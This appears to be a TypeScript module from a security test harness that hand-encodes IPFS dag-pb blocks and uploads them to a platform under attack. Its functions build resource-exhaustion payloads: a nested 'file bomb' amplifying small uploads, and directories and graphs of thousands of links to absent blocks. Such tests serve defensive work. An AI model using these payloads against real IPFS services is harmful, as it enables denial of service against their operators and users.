/** Blocks that no honest program makes, brought in as what they also are: bytes of a file. */
import { createHash } from 'node:crypto'
import type { AttackedPlatform, Person } from './platform.ts'

const varint = (value: number): number[] => {
  const bytes: number[] = []
  let rest = value
  for (; rest > 127; rest = Math.floor(rest / 128)) bytes.push((rest % 128) | 128)
  return [...bytes, rest]
}

const field = (tag: number, bytes: Uint8Array): Buffer =>
  Buffer.concat([Buffer.from([tag, ...varint(bytes.length)]), bytes])

/** The binary identifier (CIDv1, SHA-256) of a block; `raw` bytes or a `dag-pb` node. */
export function identifierOf(codec: 'raw' | 'dag-pb', block: Uint8Array): Buffer {
  const digest = createHash('sha256').update(block).digest()
  return Buffer.concat([Buffer.from([1, codec === 'raw' ? 0x55 : 0x70, 0x12, 0x20]), digest])
}

/** As text, in base16. */
export const textOf = (identifier: Uint8Array): string => `f${Buffer.from(identifier).toString('hex')}`

export interface Link {
  identifier: Uint8Array
  /** How many bytes the file is said to have there. */
  size: number
}

/** A dag-pb node of a UnixFS file (type 2) or directory (type 1) with these links. */
export function nodeOf(links: Link[], { type = 2, names = false } = {}): { block: Buffer; size: number } {
  const size = links.reduce((sum, one) => sum + one.size, 0)
  const told =
    type === 1 ? [8, 1] : [8, type, 0x18, ...varint(size), ...links.flatMap((one) => [0x20, ...varint(one.size)])]
  const encoded = links.map(({ identifier }, index) =>
    field(
      0x12,
      Buffer.concat([
        field(0x0a, identifier),
        field(0x12, Buffer.from(names ? `${index}` : '')),
        Buffer.from([0x18, 0]),
      ]),
    ),
  )
  return { block: Buffer.concat([...encoded, field(0x0a, Buffer.from(told))]), size }
}

/** Uploads bytes as a file. */
export async function upload({ url }: AttackedPlatform, by: Person, bytes: Uint8Array): Promise<void> {
  const form = new FormData()
  form.set('file', new Blob([Uint8Array.from(bytes)]), 'a')
  const headers = { authorization: `Bearer ${by.token}` }
  const answer = await fetch(`${url.node}/ipfs/upload`, { method: 'POST', headers, body: form })
  const text = await answer.text()
  if (!answer.ok) throw new Error(`the upload was answered ${answer.status} ${text}`)
}

/** Uploads a node as a file of its bytes, so that its block is there under both of its identifiers. */
export async function uploadNode(
  platform: AttackedPlatform,
  by: Person,
  links: Link[],
  options?: object,
): Promise<Link> {
  const { block, size } = nodeOf(links, options)
  await upload(platform, by, block)
  return { identifier: identifierOf('dag-pb', block), size }
}

const times = <T>(count: number, one: T): T[] => Array.from({ length: count }, () => one)

/**
 * A million bytes, each of them eight levels down beside many empty parts, from two dozen small uploads; its
 * identifier.
 */
export async function fileBomb(platform: AttackedPlatform, by: Person): Promise<string> {
  await upload(platform, by, Buffer.from('A'))
  const empty = await uploadNode(platform, by, [])
  let top: Link = { identifier: identifierOf('raw', Buffer.from('A')), size: 1 }
  for (let level = 0; level < 20; level++)
    top = await uploadNode(platform, by, [...times(level < 6 ? 10 : 1, top), ...times(1000, empty)])
  return textOf(top.identifier)
}

/** A directory of 5,000 names of which nothing else is there. */
export async function wideDirectory(platform: AttackedPlatform, by: Person): Promise<string> {
  const links = Array.from({ length: 5_000 }, (_, i) => ({
    identifier: identifierOf('raw', Buffer.from(`${i}`)),
    size: 0,
  }))
  return textOf((await uploadNode(platform, by, links, { type: 1, names: true })).identifier)
}

/** A node over eight nodes of 5,000 links each, to nothing that is there. */
export async function wideGraph(platform: AttackedPlatform, by: Person): Promise<string> {
  const parts: Link[] = []
  for (let part = 0; part < 8; part++) {
    const links = Array.from({ length: 5_000 }, (_, i) => ({
      identifier: identifierOf('raw', Buffer.from(`${part}/${i}`)),
      size: 0,
    }))
    parts.push(await uploadNode(platform, by, links, { type: 1, names: true }))
  }
  return textOf((await uploadNode(platform, by, parts, { type: 1, names: true })).identifier)
}
